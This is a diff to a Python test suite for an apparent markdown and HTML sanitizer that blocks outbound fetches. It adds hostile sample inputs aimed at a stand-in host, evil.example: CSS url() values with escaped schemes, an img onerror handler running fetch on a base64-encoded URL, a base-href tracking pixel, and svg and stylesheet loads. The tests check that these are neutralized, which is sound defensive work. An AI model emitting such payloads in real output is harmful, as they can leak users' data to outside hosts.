@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import random
+import re
 
 import pytest
 
@@ -96,6 +97,7 @@ SAMPLES = [
     'See ![b][r] [l][m] [open bracket never closed and https://example.com/x\n\n[r]: https://evil.example/r\n'
     '[m]: https://evil.example/m "t"\n',
     '[![i](https://evil.example/i)](https://evil.example/o) a < b <a href="x">y</a> `code https://evil.example/c`',
+    'no label](https://evil.example/p "a title") and <style>p{background:url(\\68ttps://evil.example/c)}</style> end',
 ]
 
 
@@ -129,3 +131,31 @@ def test_words_are_released_as_soon_as_they_are_whole() -> None:
 
     assert stream.feed('Hello wor') == 'Hello '
     assert stream.feed('ld, and ') == 'world, and '
+
+
+@pytest.mark.parametrize(
+    'written',
+    [
+        '<style>p{background:url("\\68ttps://evil.example/x")}</style>',
+        '<div style="background:url(\\68ttps://evil.example/y)">hi</div>',
+        '<div style="background:url(\\2f\\2f evil.example/z)">hi</div>',
+        '<img src=x onerror="fetch(atob(\'aHR0cHM6Ly9ldmlsLmV4YW1wbGU=\'))">',
+        '<base href="https://evil.example/">![x](pixel.png?d=s)',
+        '<svg><image href="https://evil.example/s.png"/></svg>',
+        '<link rel="stylesheet" href="//evil.example/s.css">',
+    ],
+)
+def test_css_scripts_and_base_urls_cannot_fetch_either(written: str) -> None:
+    rewritten = neutralize(written, POLICY)
+
+    assert 'evil.example/' not in rewritten.replace('`evil.example/', '')  # only ever as inert text
+    assert not re.search(r'<(?:style|img|base|svg|image|link)\b', rewritten)
+    assert 'onerror' not in rewritten and 'url(\\2f' not in rewritten.replace('removed', '')
+
+
+def test_a_host_the_user_wrote_inside_a_link_or_with_a_port_counts() -> None:
+    policy = LinkPolicy.from_sources(user_texts=['see [the docs](https://docs.example/a) or localhost:8080/x'])
+
+    assert neutralize('![d](https://docs.example/i.png) [l](http://localhost:8080/y)', policy) == (
+        '![d](https://docs.example/i.png) [l](http://localhost:8080/y)'
+    )
